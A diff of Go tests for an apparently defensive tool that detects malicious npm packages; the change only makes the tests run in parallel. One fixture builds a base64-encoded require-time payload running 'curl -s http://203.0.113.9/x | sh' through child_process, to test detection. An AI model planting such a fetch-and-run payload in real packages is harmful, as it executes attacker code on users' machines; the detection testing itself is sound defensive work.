@@ -61,6 +61,7 @@ func detectProject(t *testing.T, m mode, pkgs map[string]map[string]string) *pmB
 }
 
 func TestDetectQuietInstallScript(t *testing.T) {
+	t.Parallel()
 	requireTool(t, "npm")
 	forEachMode(t, func(t *testing.T, m mode) {
 		b := detectProject(t, m, map[string]map[string]string{
@@ -98,6 +99,7 @@ func TestDetectQuietInstallScript(t *testing.T) {
 
 // With the ignore entry the report printed, the same install goes through.
 func TestDetectIgnoreEntry(t *testing.T) {
+	t.Parallel()
 	requireTool(t, "npm")
 	forEachMode(t, func(t *testing.T, m mode) {
 		b := detectProject(t, m, map[string]map[string]string{
@@ -118,6 +120,7 @@ func TestDetectIgnoreEntry(t *testing.T) {
 // A payload that runs when the application require()s the package, with no
 // install script at all: only the static analysis sees it, before the build.
 func TestDetectRequireTimePayload(t *testing.T) {
+	t.Parallel()
 	requireTool(t, "npm")
 	forEachMode(t, func(t *testing.T, m mode) {
 		payload := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s http://203.0.113.9/x | sh')"))
@@ -151,6 +154,7 @@ func TestDetectRequireTimePayload(t *testing.T) {
 // phylum-box analyze: the same verdict for a tarball, nothing written anywhere
 // but the report.
 func TestAnalyzeCommand(t *testing.T) {
+	t.Parallel()
 	requireTool(t, "npm")
 	forEachMode(t, func(t *testing.T, m mode) {
 		b := newPMBox(t, m)
@@ -183,6 +187,7 @@ func TestAnalyzeCommand(t *testing.T) {
 // phylum-box run watches CMD too: a decoy read stops the sync back (exit 3); the
 // same command without it syncs; --no-monitor runs without the monitor.
 func TestRunMonitor(t *testing.T) {
+	t.Parallel()
 	forEachMode(t, func(t *testing.T, m mode) {
 		b := newBox(t, m)
 		out := filepath.Join(b.Project, "out.txt")
